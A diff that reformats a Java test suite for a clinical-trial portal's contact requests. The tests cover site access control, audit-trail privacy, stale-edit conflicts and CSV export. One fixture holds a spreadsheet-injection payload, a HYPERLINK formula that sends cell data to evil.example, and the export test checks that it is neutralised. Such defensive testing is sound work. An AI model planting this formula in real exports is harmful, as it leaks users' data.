@@ -35,7 +35,8 @@ import org.opentrials.portal.services.sites.SiteAccess;
  * audit trail keeps of it names the request, never the visitor. On a real database.
  */
 class SiteRequestsTest {
-  private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-20T10:00:00Z"), ZoneOffset.UTC);
+  private static final Clock CLOCK =
+      Clock.fixed(Instant.parse("2026-11-20T10:00:00Z"), ZoneOffset.UTC);
   private static final String CEDARS = "cedars-sinai";
   private static final String MUSC = "medical-university-of-south-carolina";
   private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Call\")";
@@ -47,26 +48,43 @@ class SiteRequestsTest {
   @BeforeEach
   void setUp() {
     db = new TestDatabase();
-    db.inTransaction(em -> {
-      var trial = MisleDemoTrial.trial();
-      trial.structureCriteria(demoCriteria());
-      new JpaTrialRepository(em).add(trial);
-      MisleDemoTrial.sites().forEach(new JpaSiteRepository(em)::add);
-    });
-    db.inTransaction(em -> {
-      AuditFixtures.account(em, "admin.test", Role.ADMINISTRATOR);
-      AuditFixtures.account(em, "cedars.test", Role.INVESTIGATOR, siteId(em, CEDARS));
-      AuditFixtures.account(em, "musc.test", Role.INVESTIGATOR, siteId(em, MUSC));
-      AuditFixtures.account(em, "sponsor.test", Role.SPONSOR_STAFF).assignTrial(MisleDemoTrial.NCT);
-    });
+    db.inTransaction(
+        em -> {
+          var trial = MisleDemoTrial.trial();
+          trial.structureCriteria(demoCriteria());
+          new JpaTrialRepository(em).add(trial);
+          MisleDemoTrial.sites().forEach(new JpaSiteRepository(em)::add);
+        });
+    db.inTransaction(
+        em -> {
+          AuditFixtures.account(em, "admin.test", Role.ADMINISTRATOR);
+          AuditFixtures.account(em, "cedars.test", Role.INVESTIGATOR, siteId(em, CEDARS));
+          AuditFixtures.account(em, "musc.test", Role.INVESTIGATOR, siteId(em, MUSC));
+          AuditFixtures.account(em, "sponsor.test", Role.SPONSOR_STAFF)
+              .assignTrial(MisleDemoTrial.NCT);
+        });
     byte[] key = new byte[32];
     key[3] = 9;
     cipher = new PayloadCipher("test-1", Map.of("test-1", new SecretKeySpec(key, "AES")));
-    anaReference = submit("form-ana", CEDARS, new ContactDetails("Ana Testperson", "+1 310-555-0100",
-        "ana@example.org", "MORNING"), Map.of("age", "34"), "LIKELY_ELIGIBLE");
-    submit("form-hostile", CEDARS, new ContactDetails(HYPERLINK, "-1 555 0100", "@evil@example.org".substring(1),
-        "ANY"), Map.of("age", "=1+1"), "NEEDS_REVIEW");
-    submit("form-musc", MUSC, new ContactDetails("Bea Charleston", "843-555-0199", null, "EVENING"), Map.of(), null);
+    anaReference =
+        submit(
+            "form-ana",
+            CEDARS,
+            new ContactDetails("Ana Testperson", "+1 310-555-0100", "ana@example.org", "MORNING"),
+            Map.of("age", "34"),
+            "LIKELY_ELIGIBLE");
+    submit(
+        "form-hostile",
+        CEDARS,
+        new ContactDetails(HYPERLINK, "-1 555 0100", "@evil@example.org".substring(1), "ANY"),
+        Map.of("age", "=1+1"),
+        "NEEDS_REVIEW");
+    submit(
+        "form-musc",
+        MUSC,
+        new ContactDetails("Bea Charleston", "843-555-0199", null, "EVENING"),
+        Map.of(),
+        null);
   }
 
   @AfterEach
@@ -79,32 +97,52 @@ class SiteRequestsTest {
     var list = as("cedars.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS));
     assertThat(list.siteName()).contains("Cedars-Sinai");
     assertThat(list.requests()).hasSize(2);
-    RequestView ana = list.requests().stream().filter(r -> r.reference().equals(anaReference)).findFirst().orElseThrow();
+    RequestView ana =
+        list.requests().stream()
+            .filter(r -> r.reference().equals(anaReference))
+            .findFirst()
+            .orElseThrow();
     assertThat(ana.name()).isEqualTo("Ana Testperson");
     assertThat(ana.phone()).isEqualTo("+1 310-555-0100");
     assertThat(ana.email()).isEqualTo("ana@example.org");
     assertThat(ana.preferredTime()).isEqualTo("MORNING");
     assertThat(ana.verdict()).isEqualTo("LIKELY_ELIGIBLE");
     assertThat(ana.consentVersion()).isEqualTo(ContactRequests.CONSENT_VERSION);
-    assertThat(ana.answers()).as("the question in the words the visitor read").containsExactly("How old are you? 34");
+    assertThat(ana.answers())
+        .as("the question in the words the visitor read")
+        .containsExactly("How old are you? 34");
     assertThat(ana.status()).isEqualTo(RequestStatus.NEW);
     assertThat(ana.receivedAt()).isEqualTo(CLOCK.instant());
     assertThat(list.requests()).extracting(RequestView::name).doesNotContain("Bea Charleston");
     assertThat(as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC)).requests())
-        .extracting(RequestView::name).containsExactly("Bea Charleston");
+        .extracting(RequestView::name)
+        .containsExactly("Bea Charleston");
   }
 
   @Test
   void anotherInvestigatorAndSponsorStaffAreRefusedAndTheTryRecorded() {
-    assertThat(refused("musc.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS))).isInstanceOf(AccessDenied.class);
-    assertThat(refused("musc.test", s -> s.changeStatus(MisleDemoTrial.NCT, CEDARS, anaReference,
-        RequestStatus.WITHDRAWN, 1))).isInstanceOf(AccessDenied.class);
+    assertThat(refused("musc.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)))
+        .isInstanceOf(AccessDenied.class);
+    assertThat(
+            refused(
+                "musc.test",
+                s ->
+                    s.changeStatus(
+                        MisleDemoTrial.NCT, CEDARS, anaReference, RequestStatus.WITHDRAWN, 1)))
+        .isInstanceOf(AccessDenied.class);
     assertThat(refused("sponsor.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)))
-        .as("sponsor staff never see personal data").isInstanceOf(AccessDenied.class);
-    List<AuditEntryView> denied = audit(new AuditFilter(null, AuditAction.ACCESS_DENIED, null, null, null));
-    assertThat(denied).hasSize(3).allSatisfy(e -> assertThat(e.entityKey()).isEqualTo("NCT02633163/cedars-sinai"));
-    assertThat(denied).extracting(AuditEntryView::reason)
-        .contains("tried to read the site's contact requests", "tried to change a contact request's status");
+        .as("sponsor staff never see personal data")
+        .isInstanceOf(AccessDenied.class);
+    List<AuditEntryView> denied =
+        audit(new AuditFilter(null, AuditAction.ACCESS_DENIED, null, null, null));
+    assertThat(denied)
+        .hasSize(3)
+        .allSatisfy(e -> assertThat(e.entityKey()).isEqualTo("NCT02633163/cedars-sinai"));
+    assertThat(denied)
+        .extracting(AuditEntryView::reason)
+        .contains(
+            "tried to read the site's contact requests",
+            "tried to change a contact request's status");
     assertThat(as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)).requests())
         .allMatch(r -> r.status() == RequestStatus.NEW);
   }
@@ -112,28 +150,50 @@ class SiteRequestsTest {
   @Test
   void aStatusChangeIsRecordedWithTheReferenceOnly() {
     RequestView ana = ana();
-    RequestView contacted = as("cedars.test", s -> s.changeStatus(MisleDemoTrial.NCT, CEDARS, anaReference,
-        RequestStatus.CONTACTED, ana.version()));
+    RequestView contacted =
+        as(
+            "cedars.test",
+            s ->
+                s.changeStatus(
+                    MisleDemoTrial.NCT,
+                    CEDARS,
+                    anaReference,
+                    RequestStatus.CONTACTED,
+                    ana.version()));
     assertThat(contacted.status()).isEqualTo(RequestStatus.CONTACTED);
     assertThat(contacted.statusChangedAt()).isEqualTo(CLOCK.instant());
-    assertThat(audit(new AuditFilter("cedars.test", AuditAction.UPDATE, null, null, null))).singleElement()
-        .satisfies(e -> {
-          assertThat(e.entityType()).isEqualTo("ContactRequest");
-          assertThat(e.entityKey()).isEqualTo(anaReference);
-          assertThat(e.field()).isEqualTo("status");
-          assertThat(e.oldValue()).isEqualTo("NEW");
-          assertThat(e.newValue()).isEqualTo("CONTACTED");
-          assertThat(String.valueOf(e)).doesNotContain("Ana", "310-555", "ana@example.org", "MORNING");
-        });
+    assertThat(audit(new AuditFilter("cedars.test", AuditAction.UPDATE, null, null, null)))
+        .singleElement()
+        .satisfies(
+            e -> {
+              assertThat(e.entityType()).isEqualTo("ContactRequest");
+              assertThat(e.entityKey()).isEqualTo(anaReference);
+              assertThat(e.field()).isEqualTo("status");
+              assertThat(e.oldValue()).isEqualTo("NEW");
+              assertThat(e.newValue()).isEqualTo("CONTACTED");
+              assertThat(String.valueOf(e))
+                  .doesNotContain("Ana", "310-555", "ana@example.org", "MORNING");
+            });
   }
 
   @Test
   void aChangeFromAStalePageIsRefusedAndNothingChanges() {
     RequestView seen = ana();
-    as("admin.test", s -> s.changeStatus(MisleDemoTrial.NCT, CEDARS, anaReference, RequestStatus.CONTACTED,
-        seen.version()));
-    RuntimeException late = refused("cedars.test", s -> s.changeStatus(MisleDemoTrial.NCT, CEDARS, anaReference,
-        RequestStatus.NOT_ELIGIBLE, seen.version()));
+    as(
+        "admin.test",
+        s ->
+            s.changeStatus(
+                MisleDemoTrial.NCT, CEDARS, anaReference, RequestStatus.CONTACTED, seen.version()));
+    RuntimeException late =
+        refused(
+            "cedars.test",
+            s ->
+                s.changeStatus(
+                    MisleDemoTrial.NCT,
+                    CEDARS,
+                    anaReference,
+                    RequestStatus.NOT_ELIGIBLE,
+                    seen.version()));
     assertThat(late).isInstanceOf(RequestConflict.class);
     assertThat(((RequestConflict) late).stored().status()).isEqualTo(RequestStatus.CONTACTED);
     assertThat(ana().status()).isEqualTo(RequestStatus.CONTACTED);
@@ -142,9 +202,22 @@ class SiteRequestsTest {
   @Test
   void aReferenceOfAnotherSiteIsUnknownHere() {
     var musc = as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC)).requests().get(0);
-    assertThat(refused("cedars.test", s -> s.changeStatus(MisleDemoTrial.NCT, CEDARS, musc.reference(),
-        RequestStatus.WITHDRAWN, musc.version()))).isInstanceOf(RequestNotFound.class);
-    assertThat(as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC)).requests().get(0).status())
+    assertThat(
+            refused(
+                "cedars.test",
+                s ->
+                    s.changeStatus(
+                        MisleDemoTrial.NCT,
+                        CEDARS,
+                        musc.reference(),
+                        RequestStatus.WITHDRAWN,
+                        musc.version())))
+        .isInstanceOf(RequestNotFound.class);
+    assertThat(
+            as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC))
+                .requests()
+                .get(0)
+                .status())
         .isEqualTo(RequestStatus.NEW);
   }
 
@@ -153,13 +226,22 @@ class SiteRequestsTest {
     String csv = as("cedars.test", SiteRequestsTest::export);
     assertThat(csv).startsWith("\"reference\",\"trial\",\"site\",\"kind\",\"status\"");
     assertThat(csv.split("\r\n")).hasSize(3);
-    assertThat(csv).contains("\"Ana Testperson\"", "\"'+1 310-555-0100\"", "\"ana@example.org\"",
-        "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Call\"\")\"", "\"'-1 555 0100\"", "\"How old are you? =1+1\"")
+    assertThat(csv)
+        .contains(
+            "\"Ana Testperson\"",
+            "\"'+1 310-555-0100\"",
+            "\"ana@example.org\"",
+            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Call\"\")\"",
+            "\"'-1 555 0100\"",
+            "\"How old are you? =1+1\"")
         .doesNotContain("Bea Charleston", ",\"=HYPERLINK", ",\"+1", ",\"-1");
-    assertThat(audit(new AuditFilter("cedars.test", AuditAction.EXPORT, null, null, null))).singleElement()
-        .satisfies(e -> assertThat(e.newValue()).isEqualTo("2 requests of NCT02633163/cedars-sinai"));
+    assertThat(audit(new AuditFilter("cedars.test", AuditAction.EXPORT, null, null, null)))
+        .singleElement()
+        .satisfies(
+            e -> assertThat(e.newValue()).isEqualTo("2 requests of NCT02633163/cedars-sinai"));
 
-    assertThat(as("admin.test", SiteRequestsTest::export)).contains("Bea Charleston", "Ana Testperson");
+    assertThat(as("admin.test", SiteRequestsTest::export))
+        .contains("Bea Charleston", "Ana Testperson");
     assertThat(refused("sponsor.test", SiteRequestsTest::export)).isInstanceOf(AccessDenied.class);
   }
 
@@ -175,21 +257,33 @@ class SiteRequestsTest {
 
   private RequestView ana() {
     return as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)).requests().stream()
-        .filter(r -> r.reference().equals(anaReference)).findFirst().orElseThrow();
+        .filter(r -> r.reference().equals(anaReference))
+        .findFirst()
+        .orElseThrow();
   }
 
-  private String submit(String key, String slug, ContactDetails details, Map<String, String> answers, String verdict) {
+  private String submit(
+      String key,
+      String slug,
+      ContactDetails details,
+      Map<String, String> answers,
+      String verdict) {
     AtomicReference<String> reference = new AtomicReference<>();
-    db.inTransaction(em -> {
-      ContactRequests service = new ContactRequests();
-      service.requests = new JpaContactRequestRepository(em);
-      service.trials = new JpaTrialRepository(em);
-      service.sites = new JpaSiteRepository(em);
-      service.cipher = cipher;
-      service.clock = CLOCK;
-      reference.set(service.submit(new ContactRequests.Submission(key, MisleDemoTrial.NCT, slug, details, true, answers,
-          verdict)).reference());
-    });
+    db.inTransaction(
+        em -> {
+          ContactRequests service = new ContactRequests();
+          service.requests = new JpaContactRequestRepository(em);
+          service.trials = new JpaTrialRepository(em);
+          service.sites = new JpaSiteRepository(em);
+          service.cipher = cipher;
+          service.clock = CLOCK;
+          reference.set(
+              service
+                  .submit(
+                      new ContactRequests.Submission(
+                          key, MisleDemoTrial.NCT, slug, details, true, answers, verdict))
+                  .reference());
+        });
     return reference.get();
   }
 
@@ -208,8 +302,13 @@ class SiteRequestsTest {
   private SiteRequestsService service(EntityManager em, String username) {
     var trail = AuditFixtures.trail(em, username, CLOCK);
     var caller = AuditFixtures.caller(em, username);
-    return new SiteRequestsService(em, new SiteAccess(new JpaSiteRepository(em), caller, trail),
-        new JpaContactRequestRepository(em), cipher, trail, CLOCK,
+    return new SiteRequestsService(
+        em,
+        new SiteAccess(new JpaSiteRepository(em), caller, trail),
+        new JpaContactRequestRepository(em),
+        cipher,
+        trail,
+        CLOCK,
         new org.opentrials.portal.services.persistence.JpaTrialRepository(em));
   }
 
